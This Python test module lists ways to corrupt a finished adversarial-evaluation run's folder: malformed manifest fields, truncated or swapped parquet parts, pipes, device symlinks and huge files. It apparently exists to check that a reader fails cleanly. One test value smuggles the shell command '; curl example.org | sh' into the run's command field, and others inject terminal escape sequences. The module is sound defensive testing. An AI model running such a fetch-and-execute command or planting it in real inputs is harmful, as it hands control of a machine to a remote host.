"""Kinds of damage to a finished run: name -> what is done to its folder. None may end in a traceback or a hang."""

import json
import os
import shutil

import pyarrow as pa
import pyarrow.parquet as pq

LONE = "\udce9"
ESCAPES = "\x1b[2J\x1b]0;title\x07\u202e"


def _raw(path, edit):
    """Change the text of `run.json`."""
    place = path / "run.json"
    place.write_text(edit(place.read_text()))


def _field(keys, value):
    """Set a field of `run.json`, by its path; the value is JSON of any kind, or a piece of text as it shall stand."""

    def damage(path):
        content = json.loads((path / "run.json").read_text())
        at = content
        for key in keys[:-1]:
            at = at[key]
        at[keys[-1]] = "@@" if isinstance(value, bytes) else value
        text = json.dumps(content)
        (path / "run.json").write_text(text.replace('"@@"', value.decode()) if isinstance(value, bytes) else text)

    return damage


def _without(key):
    def damage(path):
        content = json.loads((path / "run.json").read_text())
        del content[key]
        (path / "run.json").write_text(json.dumps(content))

    return damage


def _file(name, data):
    return lambda path: (path / name).write_bytes(data)


def _cut(name, size):
    return lambda path: (path / name).write_bytes((path / name).read_bytes()[:size])


def _odd(name, make):
    def damage(path):
        place = path / name
        place.unlink(missing_ok=True)
        make(place)

    return damage


def _huge(path):
    with path.open("wb") as file:
        file.truncate(1 << 40)


def _column(name, value):
    """Replace a column of the first part, and the digest with it."""

    def damage(path):
        place = path / RECORDS
        table = pq.read_table(place)
        kept = table.set_column(table.column_names.index(name), name, pa.array([value] * len(table)))
        pq.write_table(kept.replace_schema_metadata({"seconds": "{}"}), place)

    return damage


def _seconds(text):
    def damage(path):
        place = path / RECORDS
        pq.write_table(pq.read_table(place).replace_schema_metadata({"seconds": text}), place)

    return damage


RECORDS, EXAMPLES = "records/part-00000.parquet", "adversarial/part-00000.safetensors"
OWNER = "run-0-of-1.owner"

FIELDS = {
    ("chunks",): [10**10, 0, -1, 1.5, "2", None, b"1e999", b"1" * 5000],
    ("chunk",): [0, -5, 1e308, "x"],
    ("dataset", "samples"): ["x", 1e308, b"1e308", 0, 10**15],
    ("threat", "radius"): [b"1e999", -1, 0, "big", b"NaN"],
    ("threat", "low"): ["x", b"Infinity"],
    ("threat",): [[], None, {"norm": "linf"}],
    ("keep",): [5, "first x", "first 0"],
    ("flags",): ["x", [1], [{"detail": "x"}]],
    ("failures",): ["x", [3]],
    ("cost",): [[], {"clean": 3}, {"clean": {"attacked": "x", "forwards": 0, "backwards": 0, "seconds": 0}}],
    ("card",): [[], {"randomized": "x"}, {"summary": ["x"]}],
    ("stages",): ["clean", [], [1], ["pgd/true"], ["clean", "clean"]],
    ("members",): [[1], [["a"]]],
    ("fidelity",): [{"a": 1}],
    ("protocol",): [{}, {"rule": "x"}],
    ("command",): ["python run.py 'open", ESCAPES, LONE, "; curl example.org | sh", 3],
    ("name",): [{}, {"defense": LONE, "attack": LONE, "dataset": ESCAPES}, {"defense": 3}],
    ("config",): [{}, [], {"attack": LONE}, {"runtime": []}],
    ("versions",): [["torch"], {"torch": 1}],
    ("made_by",): [[1], "x"],
    ("status",): ["x", 1],
    ("schema_version",): [99, "1", None],
    ("victim",): [LONE, 3],
    ("seed",): ["x", b"1" * 400],
}

KINDS = {
    **{
        f"{'.'.join(keys)} = {ascii(value)[:24]}": _field(keys, value)
        for keys, values in FIELDS.items()
        for value in values
    },
    **{f"without {key}": _without(key) for key in ("chunks", "threat", "command", "config", "status")},
    "deeply nested": lambda path: _raw(path, lambda text: text.replace("{", '{"deep": ' + "[" * 10**5, 1)),
    "nested 200 deep": _field(("config", "deep"), b"[" * 200 + b"]" * 200),
    "empty manifest": _file("run.json", b""),
    "a list": _file("run.json", b"[]"),
    "no UTF-8": _file("run.json", b"\xff\xfe"),
    "manifest cut": _cut("run.json", 100),
    "huge manifest": _odd("run.json", _huge),
    "manifest is a pipe": _odd("run.json", os.mkfifo),
    "manifest is a folder": _odd("run.json", lambda path: path.mkdir()),
    "manifest is a device": _odd("run.json", lambda path: path.symlink_to("/dev/zero")),
    "manifest is a dangling link": _odd("run.json", lambda path: path.symlink_to("nowhere")),
    "part is a pipe": _odd(RECORDS, os.mkfifo),
    "part is a device": _odd(RECORDS, lambda path: path.symlink_to("/dev/zero")),
    "part is a folder": _odd(RECORDS, lambda path: path.mkdir()),
    "part cut": _cut(RECORDS, 90),
    "part empty": _cut(RECORDS, 0),
    "part is text": _file(RECORDS, b"x" * 300),
    "another chunk's part": lambda path: shutil.copy(path / "records/part-00001.parquet", path / RECORDS),
    "sample became text": _column("sample", "1"),
    "distance became text": _column("distance", "1"),
    "broken became text": _column("broken", "true"),
    "stage became a number": _column("stage", 1),
    "error became a number": _column("error", 1),
    "label is null": _column("label", None),
    **{f"seconds {text}": _seconds(text) for text in ("x", "[]", '{"clean": "x"}', '{"clean": 1e999}')},
    "examples are a pipe": _odd(EXAMPLES, os.mkfifo),
    "examples cut": _cut(EXAMPLES, 50),
    "examples empty": _cut(EXAMPLES, 0),
    "no examples": lambda path: shutil.rmtree(path / "adversarial"),
    "examples with a huge header": _file(EXAMPLES, b"\xff" * 8 + b"{}"),
    "owner no UTF-8": lambda path: [(path / OWNER).write_bytes(b"\xff\xfe"), (path / "run-0-of-1.lock").touch()],
    "owner is a pipe": lambda path: [os.mkfifo(path / OWNER), (path / "run-0-of-1.lock").touch()],
    "owner huge": lambda path: [_huge(path / OWNER), (path / "run-0-of-1.lock").touch()],
    **{
        f"verdict {text[:24]!a}": _file("verification.json", text)
        for text in (b"[]", b"{", b'{"checked": 1e999}', b"\xff", b'{"verified": 1, "checked": "x", "failed": []}')
    },
    "verdict is a pipe": _odd("verification.json", os.mkfifo),
}
